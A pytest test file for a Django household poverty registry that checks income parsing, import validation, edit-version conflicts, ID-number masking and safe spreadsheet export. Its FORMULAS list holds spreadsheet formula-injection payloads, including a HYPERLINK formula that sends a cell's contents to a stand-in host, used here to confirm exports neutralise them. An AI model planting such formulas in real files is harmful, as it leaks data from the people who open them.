"""Issue 7 findings on the registry: numbers read as officials mean them, exports that carry no formula,
bad values that get a message and change nothing, version checks on members, CCCD clashes that name
no one outside the scope, and search terms masked in the audit trail."""
import io

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from households.forms import ReviewForm
from households.models import Member, PovertyStandard, Review
from households.services import VersionConflict, member_create, member_update, round_lock
from households.services.imports import households_import
from povertyplan.lib.tabular import ImportFailed
from povertyplan.models import AuditEvent
from tests.households.test_excel import state, upload, workbook


def _row(code="HS-0100", income="", year=2024, village="07339-01", head="Nguyễn Văn An"):
    return [code, village, head, "", "", "", "", "", year, income, "1, 4, 7", "", "", ""]


def _import(officer, units, rows, members=()):
    return households_import(actor=officer, commune=units["07339"], file=upload(workbook(rows, members)))


def test_a_fractional_income_cell_is_rounded_half_up_and_the_row_says_so(officer, units):
    result = _import(officer, units, [_row("HS-0100", 1833333.33), _row("HS-0101", 1833333.5)])
    incomes = dict(Review.objects.values_list("household__code", "income_per_capita"))
    # read as 183,333,333 before: a decimal point taken for a thousands separator
    assert incomes == {"HS-0100": 1_833_333, "HS-0101": 1_833_334}
    assert [str(n) for n in result.notes] == [
        "Trang tính Hộ gia đình, dòng 2, cột J (Thu nhập bình quân (đồng/người/tháng)): đã làm tròn 1.833.333,33 "
        "thành 1.833.333.",
        "Trang tính Hộ gia đình, dòng 3, cột J (Thu nhập bình quân (đồng/người/tháng)): đã làm tròn 1.833.333,5 "
        "thành 1.833.334.",
    ]


@pytest.mark.parametrize("typed, stored", [("1.500.000", 1_500_000), ("1500000", 1_500_000), ("1 500 000", 1_500_000),
                                           (1500000, 1_500_000), ("1.500.000 đ", 1_500_000)])
def test_incomes_written_the_vietnamese_way_are_read_as_meant(officer, units, typed, stored):
    _import(officer, units, [_row(income=typed)])
    assert Review.objects.get().income_per_capita == stored


@pytest.mark.parametrize("typed, message", [
    ("1500000.5", "“1500000.5” có phần lẻ hoặc dấu phân cách sai: ghi số nguyên, dấu chấm chỉ để tách hàng nghìn "
                  "(ví dụ 1.500.000)."),
    ("1,5", "“1,5” có phần lẻ hoặc dấu phân cách sai: ghi số nguyên, dấu chấm chỉ để tách hàng nghìn (ví dụ 1.500.000)."),
    (2 ** 63, "không được lớn hơn 1.000.000.000."),
    ("9" * 40, "không được lớn hơn 1.000.000.000."),
    ("1.000.000.001", "không được lớn hơn 1.000.000.000."),
    (-5, "không được là số âm."),
])
def test_impossible_incomes_are_refused_with_the_cell_and_nothing_changes(officer, units, typed, message):
    before = state()
    with pytest.raises(ImportFailed) as failure:
        _import(officer, units, [_row(income=typed)])
    assert [str(e) for e in failure.value.errors] == [
        f"Trang tính Hộ gia đình, dòng 2, cột J (Thu nhập bình quân (đồng/người/tháng)): {message}"]
    assert state() == before


@pytest.mark.parametrize("year", [9999, 2019, "2.024", "năm nay"])
def test_review_years_out_of_range_are_refused_with_the_cell(officer, units, year):
    before = state()
    with pytest.raises(ImportFailed) as failure:
        _import(officer, units, [_row(income="1.800.000", year=year)])
    assert [e.column for e in failure.value.errors] == ["I (Năm rà soát)"]
    assert state() == before


def test_a_member_of_a_bad_household_row_lists_the_errors_instead_of_failing(client_for, users, units):
    # a KeyError in the member planning answered 500 before
    content = workbook([_row("HS-0100", income="1.800.000", village="07339-99")],
                       [["HS-0100", "Nguyễn Văn An", "Nam", "", 1970, "", "Chủ hộ", "", "", "", ""]])
    client = client_for(users["caothuong"])  # the login is an audit event of its own
    before = state()
    response = client.post(reverse("households:import"), {"file": upload(content)})
    assert response.status_code == 200
    assert [str(e) for e in response.context["errors"]] == [
        "Trang tính Hộ gia đình, dòng 2, cột B (Mã thôn/TDP): không có thôn, tổ dân phố mã 07339-99 trong xã."]
    assert state() == before


@pytest.mark.parametrize("typed, error", [
    ("1500000.5", "“1500000.5” có phần lẻ hoặc dấu phân cách sai: ghi số nguyên, dấu chấm chỉ để tách hàng nghìn "
                  "(ví dụ 1.500.000)."),
    ("1,5", "“1,5” có phần lẻ hoặc dấu phân cách sai: ghi số nguyên, dấu chấm chỉ để tách hàng nghìn (ví dụ 1.500.000)."),
    ("9" * 40, "Không được lớn hơn 1.000.000.000."),
])
def test_the_review_form_refuses_what_the_import_refuses(standards, typed, error):
    form = ReviewForm({"income_per_capita": typed}, standard=PovertyStandard.objects.first())
    assert form.errors["income_per_capita"] == [error]


def test_the_review_form_reads_dots_as_thousands(standards):
    form = ReviewForm({"income_per_capita": "1.500.000"}, standard=PovertyStandard.objects.first())
    form.is_valid()
    assert form.cleaned_data["income_per_capita"] == 1_500_000


def test_live_classification_of_a_40_digit_income_shows_no_result_instead_of_a_500(client_for, users, household,
                                                                                    make_round):
    review_round = make_round(2025)
    url = reverse("households:review_classify", args=[household.pk, review_round.pk])
    client = client_for(users["caothuong"])
    response = client.post(url, {"income_per_capita": "9" * 40})
    assert response.status_code == 200
    assert "Nhập thu nhập để xem kết quả phân loại." in response.content.decode()
    response = client.post(url, {"income_per_capita": "1.500.000"})
    assert 'id="classification-label">Hộ cận nghèo<' in response.content.decode()


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&F2,"x")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_exports_write_formula_like_names_as_text(client_for, users, make_household, add_member):
    for number, text in enumerate(FORMULAS):
        household = make_household(f"HS-{number:03}", head_name=text)
        add_member(household, full_name=text)
    content = client_for(users["caothuong"]).get(reverse("households:export")).content
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    heads = [row[3] for row in book["Hộ gia đình"].iter_rows(min_row=2, values_only=True)]
    names = [row[1] for row in book["Thành viên"].iter_rows(min_row=2, values_only=True)]
    expected = ['=HYPERLINK("http://example.invalid/?"&F2,"x")', "+1+1", "-1+1", "@SUM(A1:A2)", "=1", "=1"]  # as saved
    assert heads == expected and names == expected
    assert all(book["Hộ gia đình"].cell(row=i, column=4).quotePrefix for i in range(2, 2 + len(FORMULAS)))


def test_a_member_edited_in_two_sessions_keeps_both_changes_visible(household, officer):
    member = member_create(actor=officer, household=household, full_name="Nguyễn Văn An", sex="male", birth_year=1970,
                           relation="head")
    values = {"full_name": "Nguyễn Văn An", "sex": "male", "birth_year": 1970, "relation": "head"}
    member_update(actor=officer, member=member, version=1, **{**values, "ethnicity": "Tày"})
    with pytest.raises(VersionConflict) as conflict:
        member_update(actor=officer, member=member, version=1, **{**values, "health_insurance": True})
    assert [(c.field, c.before, c.after) for c in conflict.value.changes] == [("dân tộc", "Kinh", "Tày")]
    assert Member.objects.get().ethnicity == "Tày" and Member.objects.get().health_insurance is False


def test_the_member_form_shows_the_conflict_and_saves_nothing(client_for, users, household, officer):
    member = member_create(actor=officer, household=household, full_name="Nguyễn Văn An", sex="male", birth_year=1970,
                           relation="head")
    client = client_for(users["caothuong"])
    url = reverse("households:member_edit", args=[member.pk])
    form = {"full_name": "Nguyễn Văn An", "sex": "male", "birth_year": "1970", "relation": "head",
            "ethnicity": "Kinh", "version": "1"}
    assert client.post(url, {**form, "ethnicity": "Tày"}).status_code == 302
    response = client.post(url, {**form, "full_name": "Nguyễn Văn Ân"})
    assert response.context["conflict"].changes[0].after == "Tày"
    assert Member.objects.get().full_name == "Nguyễn Văn An"


def test_a_cccd_registered_in_another_commune_is_refused_without_naming_its_household(
        make_household, add_member, household, officer):
    other = make_household("CX-001", village="07336-01", head_name="Trần Thị Bích")
    add_member(other, full_name="Trần Thị Bích", id_number="024185000009", sex="female")
    before = Member.objects.count()
    with pytest.raises(ValidationError) as info:
        member_create(actor=officer, household=household, full_name="Lê Văn Cường", sex="male", birth_year=1980,
                      relation="head", id_number="024185000009")
    message = info.value.message_dict["id_number"][0]
    assert message == ("Số CCCD 024185000009 đã được ghi cho một người đang có tên trong sổ hộ ở đơn vị khác. Kiểm tra "
                       "lại số; nếu đúng, người đó cần được ghi ra khỏi hộ cũ trước.")
    assert Member.objects.count() == before


def test_a_searched_cccd_is_masked_in_the_export_event(client_for, users, household):
    client_for(users["caothuong"]).get(reverse("households:export"), {"q": "024070001234"})
    event = AuditEvent.objects.get(action="household.export")
    assert event.after["filters"] == {"q": "********1234"}
    assert "024070001234" not in str(event.after)


BAD_FILES = sorted(p for p in (settings.BASE_DIR / "tests" / "data" / "bad").glob("*") if p.suffix in (".xlsx", ".csv", ".bin"))


def test_the_bad_file_corpus_is_there():
    assert len(BAD_FILES) >= 8


@pytest.mark.parametrize("path", BAD_FILES, ids=[p.name for p in BAD_FILES])
def test_every_bad_file_is_refused_by_the_household_import_without_a_write(client_for, users, units, path):
    client = client_for(users["caothuong"])  # the login is an audit event of its own
    before = state()
    response = client.post(reverse("households:import"), {"file": upload(path.read_bytes(), name=path.name)})
    assert response.status_code == 200
    if path.stat().st_size == 0:  # Django's file field refuses it before the import reads it
        assert response.context["form"].errors["file"] == ["Tập tin được gửi là rỗng."]
    else:
        assert [e.message for e in response.context["errors"]] != []
    assert state() == before


def test_this_years_result_cannot_be_recognised_by_a_file(officer, units):
    year = timezone.localdate().year
    row = ["HS-0100", "07339-01", "Nguyễn Văn An", "", "", "", "", "", year, "1.200.000", "1, 4, 7", "",
           "15/QĐ-UBND", timezone.localdate().strftime("%d/%m/%Y")]
    before = state()
    with pytest.raises(ImportFailed) as failure:
        _import(officer, units, [row])
    assert [str(e) for e in failure.value.errors] == [
        f"Trang tính Hộ gia đình, dòng 2, cột M (Số quyết định công nhận): kết quả năm {year} do lãnh đạo UBND xã công "
        "nhận trên hệ thống: để trống số và ngày quyết định (kết quả được nhập là bản nháp)."]
    assert state() == before


def test_a_file_adds_no_result_to_a_locked_round(officer, units, make_household, make_round):
    review_round = make_round(2024)
    round_lock(actor=officer, round=review_round)
    make_household("HS-0100")
    before = state()
    with pytest.raises(ImportFailed) as failure:
        _import(officer, units, [_row("HS-0100", income="1.200.000", year=2024)])
    assert [str(e) for e in failure.value.errors] == [
        "Trang tính Hộ gia đình, dòng 2, cột I (Năm rà soát): đợt rà soát định kỳ năm 2024 đã khép lại (khóa sổ hoặc đã "
        "có danh sách năm sau): kết quả mới của hộ HS-0100 ghi qua rà soát thường xuyên."]
    assert state() == before


def test_an_import_that_changes_a_member_raises_its_version_like_the_form(officer, units):
    from tests.households.test_excel import GOOD_HOUSEHOLDS, GOOD_MEMBERS

    _import(officer, units, GOOD_HOUSEHOLDS, GOOD_MEMBERS)
    member = Member.objects.get(full_name="Nguyễn Thị Cúc")
    changed = [row[:7] + ["Tày"] + row[8:] if row[1] == "Nguyễn Thị Cúc" else row for row in GOOD_MEMBERS]
    assert _import(officer, units, GOOD_HOUSEHOLDS, changed).members_updated == 1
    member.refresh_from_db()
    assert (member.ethnicity, member.version) == ("Tày", 2)
    with pytest.raises(VersionConflict) as conflict:  # a form opened before the import
        member_update(actor=officer, member=member, version=1, full_name="Nguyễn Thị Cúc", sex="female",
                      birth_date=member.birth_date, relation="child")
    assert [(c.field, c.before, c.after) for c in conflict.value.changes] == [("dân tộc", "Kinh", "Tày")]
